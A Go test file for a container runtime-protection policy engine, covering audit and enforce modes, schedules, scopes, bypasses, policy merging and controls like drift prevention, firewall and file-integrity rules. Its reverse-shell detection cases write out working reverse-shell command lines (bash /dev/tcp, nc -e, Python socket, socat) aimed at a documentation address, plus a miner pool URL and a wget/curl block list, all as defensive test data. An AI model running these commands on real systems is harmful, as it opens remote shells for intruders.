package runtimepolicy

import (
	"encoding/json"
	"net/netip"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/mamorisec/mamori/internal/fleet"
)

var (
	now     = time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)
	webProd = Workload{Host: "node-1", Container: "web", Image: "registry.example/team-a/web:1", Namespace: "prod",
		Labels: map[string]string{"app": "web"}}
	other = Workload{Host: "node-2", Container: "db", Image: "postgres:17", Namespace: "data"}
)

const teamAScope = `{"name": "team-a", "artifacts": {"images": ["registry.example/team-a/**"]}}`

// bundle builds a bundle from policy documents.
func bundle(t *testing.T, settings fleet.GroupSettings, bypass fleet.Bypass, policies ...string) fleet.PolicyBundle {
	t.Helper()
	b := fleet.PolicyBundle{Revision: 7, Settings: settings, Bypass: bypass, Scopes: []json.RawMessage{json.RawMessage(teamAScope)}}
	for _, p := range policies {
		b.Policies = append(b.Policies, json.RawMessage(p))
	}
	return b
}

func mustEffective(t *testing.T, b fleet.PolicyBundle, w Workload) *Effective {
	t.Helper()
	s, err := Compile(b, now)
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}
	return s.For(w)
}

// policy returns a policy document with the given mode, extra top-level
// fields and controls.
func policy(name, mode, extra, controls string) string {
	if extra != "" {
		extra = ", " + extra
	}
	return `{"name": "` + name + `", "enabled": true, "mode": "` + mode + `"` + extra + `, "controls": {` + controls + `}}`
}

// modeVariants are the ways a policy ends up in audit or enforce mode.
var modeVariants = []struct {
	name, mode, extra string
	effective         Mode
}{
	{"audit", "audit", "", Audit},
	{"enforce", "enforce", "", Enforce},
	{"scheduled-reached", "audit", `"schedule": {"enforceFrom": "2026-11-24T11:00:00Z"}`, Enforce},
	{"scheduled-future", "audit", `"schedule": {"enforceFrom": "2026-11-24T13:00:00Z"}`, Audit},
	{"after-days-reached", "audit", `"created": "2026-11-10T12:00:00Z", "schedule": {"enforceAfterDays": 14}`, Enforce},
	{"after-days-future", "audit", `"created": "2026-11-10T12:00:01Z", "schedule": {"enforceAfterDays": 14}`, Audit},
}

// TestDecisions covers every control in audit and enforce mode (set
// directly or by a schedule), in an audit-only group, bypassed, out of
// scope and disabled.
func TestDecisions(t *testing.T) {
	type check func(e *Effective) Decision
	exec := func(x ExecContext) check { return func(e *Effective) Decision { return e.Exec(x) } }
	inImage := func(p string, args ...string) ExecContext {
		return ExecContext{Path: p, Args: append([]string{p}, args...), FromImage: true}
	}
	for _, tc := range []struct {
		name       string
		controls   string
		check      check
		violates   bool // the control is violated
		detectOnly bool // the control never blocks
		control    string
	}{
		{"exec session blocked", `"blockExec": {"allowedProcesses": ["ps"]}`, exec(ExecContext{Path: "/bin/sh", ExecSession: true, FromImage: true}), true, false, ControlBlockExec},
		{"exec session allowed process", `"blockExec": {"allowedProcesses": ["ps"]}`, exec(ExecContext{Path: "/bin/ps", ExecSession: true, FromImage: true}), false, false, ControlBlockExec},
		{"not an exec session", `"blockExec": {}`, exec(inImage("/bin/sh")), false, false, ControlBlockExec},
		{"drift", `"driftPrevention": {}`, exec(ExecContext{Path: "/tmp/x"}), true, false, ControlDriftPrevention},
		{"drift allowed", `"driftPrevention": {"allowed": ["/tmp/*"]}`, exec(ExecContext{Path: "/tmp/x"}), false, false, ControlDriftPrevention},
		{"from image no drift", `"driftPrevention": {}`, exec(inImage("/usr/bin/x")), false, false, ControlDriftPrevention},
		{"allowed executables miss", `"allowedExecutables": ["/usr/bin/*"]`, exec(inImage("/bin/sh")), true, false, ControlAllowedExecutables},
		{"allowed executables hit", `"allowedExecutables": ["/usr/bin/*"]`, exec(inImage("/usr/bin/python3")), false, false, ControlAllowedExecutables},
		{"allowed executables base name", `"allowedExecutables": ["python*"]`, exec(inImage("/usr/bin/python3")), false, false, ControlAllowedExecutables},
		{"blocked executable", `"blockedExecutables": ["wget", "/usr/bin/curl"]`, exec(inImage("/bin/wget")), true, false, ControlBlockedExecutables},
		{"blocked executable full path", `"blockedExecutables": ["wget", "/usr/bin/curl"]`, exec(inImage("/usr/bin/curl")), true, false, ControlBlockedExecutables},
		{"not blocked executable", `"blockedExecutables": ["wget", "/usr/bin/curl"]`, exec(inImage("/bin/curl")), false, false, ControlBlockedExecutables},
		{"reverse shell socket", `"reverseShell": true`, exec(ExecContext{Path: "/bin/bash", FromImage: true, SocketStdio: true}), true, false, ControlReverseShell},
		{"reverse shell dev tcp", `"reverseShell": true`, exec(inImage("/bin/bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")), true, false, ControlReverseShell},
		{"reverse shell nc -e", `"reverseShell": true`, exec(inImage("/usr/bin/nc", "-e", "/bin/sh", "192.0.2.1", "4444")), true, false, ControlReverseShell},
		{"reverse shell sh -i from nc", `"reverseShell": true`, exec(ExecContext{Path: "/bin/sh", Args: []string{"sh", "-i"}, FromImage: true, Parents: []string{"/usr/bin/ncat"}}), true, false, ControlReverseShell},
		{"reverse shell python", `"reverseShell": true`, exec(inImage("/usr/bin/python3", "-c", "import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)")), true, false, ControlReverseShell},
		{"reverse shell socat", `"reverseShell": true`, exec(inImage("/usr/bin/socat", "tcp:192.0.2.1:4444", "exec:/bin/sh")), true, false, ControlReverseShell},
		{"plain shell", `"reverseShell": true`, exec(inImage("/bin/sh", "-c", "echo hi")), false, false, ControlReverseShell},
		{"plain nc", `"reverseShell": true`, exec(inImage("/usr/bin/nc", "-z", "db", "5432")), false, false, ControlReverseShell},
		{"miner name", `"cryptoMiner": true`, exec(inImage("/opt/xmrig")), true, false, ControlCryptoMiner},
		{"miner pool", `"cryptoMiner": true`, exec(inImage("/tmp/.x/kworker", "-o", "stratum+tcp://pool.example:3333")), true, false, ControlCryptoMiner},
		{"not a miner", `"cryptoMiner": true`, exec(inImage("/usr/bin/top")), false, false, ControlCryptoMiner},
		{"unapproved image", `"blockUnapprovedImages": true`, func(e *Effective) Decision { return e.ContainerStart(false, []string{"critical CVE"}) }, true, false, ControlBlockUnapprovedImages},
		{"approved image", `"blockUnapprovedImages": true`, func(e *Effective) Decision { return e.ContainerStart(true, nil) }, false, false, ControlBlockUnapprovedImages},
		{"fim block writes", `"fileIntegrity": {"paths": ["/etc/**"], "blockWrites": true}`, func(e *Effective) Decision { return e.FileWrite("/etc/ssl/x.pem") }, true, false, ControlFileIntegrity},
		{"fim detect writes", `"fileIntegrity": {"paths": ["/etc/**"]}`, func(e *Effective) Decision { return e.FileWrite("/etc/passwd") }, true, true, ControlFileIntegrity},
		{"fim unwatched", `"fileIntegrity": {"paths": ["/etc/**"], "blockWrites": true}`, func(e *Effective) Decision { return e.FileWrite("/tmp/passwd") }, false, false, ControlFileIntegrity},
		{"firewall outbound denied", `"firewall": {"allowOutbound": ["tcp/443", "192.0.2.0/28"]}`, func(e *Effective) Decision {
			return e.Connection(true, "tcp", netip.MustParseAddr("198.51.100.1"), 80)
		}, true, false, ControlFirewall},
		{"firewall outbound port", `"firewall": {"allowOutbound": ["tcp/443", "192.0.2.0/28"]}`, func(e *Effective) Decision {
			return e.Connection(true, "tcp", netip.MustParseAddr("198.51.100.1"), 443)
		}, false, false, ControlFirewall},
		{"firewall outbound cidr", `"firewall": {"allowOutbound": ["tcp/443", "192.0.2.0/28"]}`, func(e *Effective) Decision {
			return e.Connection(true, "udp", netip.MustParseAddr("192.0.2.9"), 53)
		}, false, false, ControlFirewall},
		{"firewall inbound open", `"firewall": {"allowOutbound": []}`, func(e *Effective) Decision {
			return e.Connection(false, "tcp", netip.MustParseAddr("192.0.2.9"), 22)
		}, false, false, ControlFirewall},
		{"firewall inbound denied", `"firewall": {"allowInbound": ["tcp/8080"]}`, func(e *Effective) Decision {
			return e.Connection(false, "tcp", netip.MustParseAddr("192.0.2.9"), 22)
		}, true, false, ControlFirewall},
	} {
		for _, v := range modeVariants {
			mode := v.effective
			doc := func(extra string) string {
				if v.extra != "" && extra != "" {
					extra = v.extra + ", " + extra
				} else if v.extra != "" {
					extra = v.extra
				}
				return policy("p1", v.mode, extra, tc.controls)
			}
			t.Run(tc.name+"/"+v.name, func(t *testing.T) {
				e := mustEffective(t, bundle(t, fleet.GroupSettings{}, fleet.Bypass{}, doc("")), webProd)
				if e == nil {
					t.Fatal("no effective policy")
				}
				got := tc.check(e)
				want := Allow
				if tc.violates {
					want = Detect
					if mode == Enforce && !tc.detectOnly {
						want = Block
					}
				}
				if got.Action != want {
					t.Fatalf("decision = %+v, want %s", got, want)
				}
				if want != Allow && (got.Policy != "p1" || got.Control != tc.control || got.Reason == "") {
					t.Errorf("decision = %+v, want policy p1 control %s and a reason", got, tc.control)
				}
				if want == Block && got.Status() != fleet.StatusBlock || want == Detect && got.Status() != fleet.StatusDetect {
					t.Errorf("Status() = %q for %s", got.Status(), got.Action)
				}
				// The group's audit-only setting turns every block into a detection.
				ao := mustEffective(t, bundle(t, fleet.GroupSettings{AuditOnly: true}, fleet.Bypass{}, doc("")), webProd)
				if d := tc.check(ao); d.Action == Block || (want != Allow) != (d.Action == Detect) {
					t.Errorf("audit-only group: decision = %+v", d)
				}
				// A bypassed workload gets no controls at all.
				by := mustEffective(t, bundle(t, fleet.GroupSettings{}, fleet.Bypass{Namespaces: []string{"prod"}}, doc("")), webProd)
				if by != nil || tc.check(by).Action != Allow {
					t.Errorf("bypassed workload: effective %+v", by)
				}
				// A policy scoped elsewhere does not apply.
				sc := mustEffective(t, bundle(t, fleet.GroupSettings{}, fleet.Bypass{}, doc(`"scopes": ["team-a"]`)), other)
				if sc != nil || tc.check(sc).Action != Allow {
					t.Errorf("out-of-scope workload: effective %+v", sc)
				}
				// A disabled policy is ignored.
				off := strings.Replace(doc(""), `"enabled": true`, `"enabled": false`, 1)
				if d := mustEffective(t, bundle(t, fleet.GroupSettings{}, fleet.Bypass{}, off), webProd); d != nil {
					t.Errorf("disabled policy applies: %+v", d)
				}
			})
		}
	}
}

func TestScheduleAndControlModes(t *testing.T) {
	before := now.Add(time.Hour).Format(time.RFC3339)
	after := now.Add(-time.Hour).Format(time.RFC3339)
	created := now.AddDate(0, 0, -10).Format(time.RFC3339)
	for _, tc := range []struct {
		name, mode, extra, controls string
		auditOnly                   bool
		want                        Action
	}{
		{"audit", "audit", "", `"cryptoMiner": true`, false, Detect},
		{"enforce", "enforce", "", `"cryptoMiner": true`, false, Block},
		{"scheduled, not yet", "audit", `"schedule": {"enforceFrom": "` + before + `"}`, `"cryptoMiner": true`, false, Detect},
		{"scheduled, reached", "audit", `"schedule": {"enforceFrom": "` + after + `"}`, `"cryptoMiner": true`, false, Block},
		{"after days, reached", "audit", `"created": "` + created + `", "schedule": {"enforceAfterDays": 10}`, `"cryptoMiner": true`, false, Block},
		{"after days, not yet", "audit", `"created": "` + created + `", "schedule": {"enforceAfterDays": 11}`, `"cryptoMiner": true`, false, Detect},
		{"scheduled, audit-only group", "audit", `"schedule": {"enforceFrom": "` + after + `"}`, `"cryptoMiner": true`, true, Detect},
		{"control enforces in audit policy", "audit", "", `"cryptoMiner": {"enabled": true, "mode": "enforce"}`, false, Block},
		{"control audits in enforce policy", "enforce", "", `"cryptoMiner": {"enabled": true, "mode": "audit"}`, false, Detect},
		{"control enforce, audit-only group", "audit", "", `"cryptoMiner": {"enabled": true, "mode": "enforce"}`, true, Detect},
		{"toggle off", "enforce", "", `"cryptoMiner": false, "reverseShell": true`, false, Allow},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := mustEffective(t, bundle(t, fleet.GroupSettings{AuditOnly: tc.auditOnly}, fleet.Bypass{}, policy("p", tc.mode, tc.extra, tc.controls)), webProd)
			if got := e.Exec(ExecContext{Path: "/usr/bin/xmrig", FromImage: true}); got.Action != tc.want {
				t.Errorf("Exec = %+v, want %s", got, tc.want)
			}
		})
	}
}

func TestMergeMostRestrictive(t *testing.T) {
	b := bundle(t, fleet.GroupSettings{}, fleet.Bypass{},
		policy("audit-all", "audit", "", `"cryptoMiner": true, "forkGuard": {"maxProcesses": 50}, "blockedSyscalls": ["ptrace", "mount"], "firewall": {"allowOutbound": ["tcp/443", "tcp/80"]}`),
		policy("enforce-a", "enforce", `"scopes": ["team-a"], "criteria": "namespace == \"prod\""`, `"cryptoMiner": true, "forkGuard": {"maxProcesses": 100}, "blockedSyscalls": ["ptrace"], "firewall": {"allowOutbound": ["tcp/443"]}`),
		policy("fork-tie", "enforce", `"criteria": "label[\"app\"] == \"web\""`, `"forkGuard": {"maxProcesses": 50}`),
	)
	e := mustEffective(t, b, webProd)
	if !reflect.DeepEqual(e.Policies, []string{"audit-all", "enforce-a", "fork-tie"}) {
		t.Fatalf("Policies = %v", e.Policies)
	}
	if d := e.Exec(ExecContext{Path: "/bin/xmrig", FromImage: true}); d.Action != Block || d.Policy != "enforce-a" {
		t.Errorf("Exec = %+v, want a block by enforce-a", d)
	}
	if l, ok := e.ForkLimit(); !ok || l != (Limit{Max: 50, Mode: Enforce, Policy: "fork-tie"}) {
		t.Errorf("ForkLimit = %+v, %v", l, ok)
	}
	want := []Syscall{{Name: "mount", Mode: Audit, Policy: "audit-all"}, {Name: "ptrace", Mode: Enforce, Policy: "enforce-a"}}
	if got := e.Syscalls(); !reflect.DeepEqual(got, want) {
		t.Errorf("Syscalls = %+v, want %+v", got, want)
	}
	if fw := e.Firewall(); len(fw) != 2 || fw[1].Policy != "enforce-a" || !fw[1].OutboundSet || fw[1].InboundSet {
		t.Errorf("Firewall = %+v", fw)
	}
	// Port 80 is allowed by audit-all but not by enforce-a: blocked.
	if d := e.Connection(true, "tcp", netip.MustParseAddr("192.0.2.1"), 80); d.Action != Block || d.Policy != "enforce-a" {
		t.Errorf("Connection(80) = %+v", d)
	}
	if d := e.Connection(true, "tcp", netip.MustParseAddr("192.0.2.1"), 443); d.Action != Allow {
		t.Errorf("Connection(443) = %+v", d)
	}
	if len(e.Active) != 9 || e.Active[0] != (Active{Policy: "audit-all", Control: ControlForkGuard, Mode: Audit}) {
		t.Errorf("Active = %+v", e.Active)
	}
	// The other workload only gets audit-all.
	o := mustEffective(t, b, other)
	if !reflect.DeepEqual(o.Policies, []string{"audit-all"}) {
		t.Errorf("other Policies = %v", o.Policies)
	}
	if l, _ := o.ForkLimit(); l.Mode != Audit || l.Max != 50 {
		t.Errorf("other ForkLimit = %+v", l)
	}
	var nilEff *Effective
	if _, ok := nilEff.ForkLimit(); ok || nilEff.Syscalls() != nil || nilEff.Firewall() != nil || nilEff.Learning() {
		t.Error("nil Effective has controls")
	}
}

func TestBypass(t *testing.T) {
	p := policy("p", "enforce", "", `"cryptoMiner": true`)
	for _, tc := range []struct {
		name   string
		bypass fleet.Bypass
		w      Workload
		exempt bool
	}{
		{"default kube-system", DefaultBypass(), Workload{Namespace: "kube-system", Container: "coredns"}, true},
		{"default other namespace", DefaultBypass(), webProd, false},
		{"namespace glob", fleet.Bypass{Namespaces: []string{"prod*"}}, webProd, true},
		{"label key", fleet.Bypass{Labels: []string{"app"}}, webProd, true},
		{"label key value", fleet.Bypass{Labels: []string{"app=web"}}, webProd, true},
		{"label other value", fleet.Bypass{Labels: []string{"app=api"}}, webProd, false},
		{"label absent", fleet.Bypass{Labels: []string{"mamori.dev/bypass"}}, webProd, false},
		{"label empty value", fleet.Bypass{Labels: []string{"app="}}, Workload{Labels: map[string]string{"app": ""}}, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := mustEffective(t, bundle(t, fleet.GroupSettings{}, tc.bypass, p), tc.w)
			if (e == nil) != tc.exempt {
				t.Errorf("exempt = %v, want %v", e == nil, tc.exempt)
			}
		})
	}
}

func TestScopes(t *testing.T) {
	scopes := []json.RawMessage{
		json.RawMessage(teamAScope),
		json.RawMessage(`{"name": "eu-hosts", "infrastructure": {"hosts": ["node-*"]}}`),
		json.RawMessage(`{"name": "web-label", "workloads": {"labels": ["app=web"], "namespaces": ["prod"]}}`),
		json.RawMessage(`{"name": "hub", "artifacts": {"registries": ["docker.io"]}}`),
	}
	for _, tc := range []struct {
		scopes      string
		web, otherW bool
	}{
		{`["team-a"]`, true, false},
		{`["eu-hosts"]`, true, true},
		{`["web-label"]`, true, false},
		{`["hub"]`, false, true},
		{`["hub", "team-a"]`, true, true},
		{`["Global"]`, true, true},
		{`[]`, true, true},
	} {
		b := fleet.PolicyBundle{Scopes: scopes, Policies: []json.RawMessage{json.RawMessage(policy("p", "audit", `"scopes": `+tc.scopes, `"reverseShell": true`))}}
		if got := mustEffective(t, b, webProd) != nil; got != tc.web {
			t.Errorf("scopes %s: web applies = %v", tc.scopes, got)
		}
		if got := mustEffective(t, b, other) != nil; got != tc.otherW {
			t.Errorf("scopes %s: other applies = %v", tc.scopes, got)
		}
	}
}

func TestCompileErrors(t *testing.T) {
	for _, tc := range []struct {
		name string
		b    fleet.PolicyBundle
		want string
	}{
		{"undefined scope", fleet.PolicyBundle{Policies: []json.RawMessage{json.RawMessage(policy("p", "audit", `"scopes": ["nope"]`, ""))}}, `scope "nope" is not defined`},
		{"bad scope", fleet.PolicyBundle{Scopes: []json.RawMessage{json.RawMessage(`{"name": "x"}`)}}, "scopes[0]"},
		{"bad policy", fleet.PolicyBundle{Policies: []json.RawMessage{json.RawMessage(`{"name": "p", "mode": "x", "controls": {}}`)}}, "policies[0]"},
		{"duplicate", fleet.PolicyBundle{Policies: []json.RawMessage{json.RawMessage(policy("p", "audit", "", "")), json.RawMessage(policy("p", "audit", "", ""))}}, `name "p" is used twice`},
		{"bad bypass namespace", fleet.PolicyBundle{Bypass: fleet.Bypass{Namespaces: []string{"a b"}}}, "bypass.namespaces[0]"},
		{"bad bypass label", fleet.PolicyBundle{Bypass: fleet.Bypass{Labels: []string{"a=b c"}}}, "bypass.labels[0]"},
	} {
		if _, err := Compile(tc.b, now); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: Compile error = %v, want %q", tc.name, err, tc.want)
		}
	}
}

func TestBuiltinDefaultDecisions(t *testing.T) {
	var b fleet.PolicyBundle
	for _, p := range Builtins() {
		raw, err := p.Export()
		if err != nil {
			t.Fatal(err)
		}
		b.Policies = append(b.Policies, raw)
	}
	b.Bypass = DefaultBypass()
	e := mustEffective(t, b, webProd)
	if !reflect.DeepEqual(e.Policies, []string{BuiltinDefault}) {
		t.Fatalf("Policies = %v, want only the enabled default", e.Policies)
	}
	for _, tc := range []struct {
		x    ExecContext
		want Action
	}{
		{ExecContext{Path: "/usr/sbin/nginx", FromImage: true}, Allow},
		{ExecContext{Path: "/tmp/dropper"}, Detect},
		{ExecContext{Path: "/bin/sh", FromImage: true, SocketStdio: true}, Detect},
		{ExecContext{Path: "/usr/bin/xmrig", FromImage: true}, Detect},
	} {
		if d := e.Exec(tc.x); d.Action != tc.want {
			t.Errorf("Exec(%s) = %+v, want %s", tc.x.Path, d, tc.want)
		}
	}
}

func TestProtects(t *testing.T) {
	for _, tc := range []struct {
		settings        fleet.GroupSettings
		container, host bool
	}{
		{fleet.GroupSettings{}, false, false},
		{fleet.GroupSettings{ContainerProtection: true}, true, false},
		{fleet.GroupSettings{HostProtection: true}, false, true},
		{fleet.GroupSettings{ContainerProtection: true, HostProtection: true, AuditOnly: true}, true, true},
	} {
		s, err := Compile(fleet.PolicyBundle{Settings: tc.settings}, now)
		if err != nil {
			t.Fatal(err)
		}
		if got := s.Protects(webProd); got != tc.container {
			t.Errorf("%+v: Protects(container) = %v", tc.settings, got)
		}
		if got := s.Protects(Workload{Host: "node-1"}); got != tc.host {
			t.Errorf("%+v: Protects(host process) = %v", tc.settings, got)
		}
		if s.Settings() != tc.settings || s.Revision() != 0 {
			t.Errorf("Settings/Revision not kept")
		}
	}
}
